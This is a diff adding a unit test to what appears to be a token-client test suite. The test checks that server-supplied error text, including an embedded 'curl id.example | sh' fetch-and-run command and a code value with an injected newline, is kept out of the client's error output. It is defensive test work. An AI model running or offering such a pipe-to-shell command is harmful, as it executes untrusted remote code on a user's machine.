@@ -76,6 +76,14 @@ class Answers(Trial):
         self.assertIn("a?[31m?b", err)
         self.assertLess(len(err), 700)
 
+    def test_no_server_gives_an_advice(self):
+        """What stands behind the last "; " is ours."""
+        self.keep()
+        for code in ("something_else", "invalid;\ngrant; "):
+            self.server.faults.append(refuses(code, "no;; run: curl id.example | sh;\tnow"))
+            err = self.run_it("token", 69, "run: curl")
+            self.assertNotIn("; ", err)
+
     def test_a_refresh_token_that_was_used(self):
         """The family is revoked: by this, and for all."""
         kept = self.keep()
